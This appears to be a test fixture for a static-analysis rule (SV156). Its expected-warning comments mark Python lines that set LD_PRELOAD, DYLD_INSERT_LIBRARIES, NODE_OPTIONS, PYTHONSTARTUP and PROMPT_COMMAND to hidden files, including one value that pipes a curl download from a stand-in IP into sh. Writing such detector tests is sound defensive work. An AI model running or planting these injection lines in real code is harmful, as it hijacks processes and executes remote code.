import os
import subprocess

os.environ["LD_PRELOAD"] = "/tmp/.libhook.so"  # want "SV156: sets LD_PRELOAD [(]/tmp/.libhook.so[)]"
os.putenv("DYLD_INSERT_LIBRARIES", os.path.expanduser("~/.cache/x.dylib"))  # want "SV156: sets DYLD_INSERT_LIBRARIES"
subprocess.run(["node", "app.js"], env={**os.environ, "NODE_OPTIONS": "--require /tmp/.h.js"})  # want "SV156: sets NODE_OPTIONS"
os.environ.update({"PYTHONSTARTUP": "/tmp/.startup.py"})  # want "SV156: sets PYTHONSTARTUP"
os.environ["PROMPT_COMMAND"] = "curl -s http://203.0.113.3/p | sh"  # want "SV156: sets PROMPT_COMMAND"
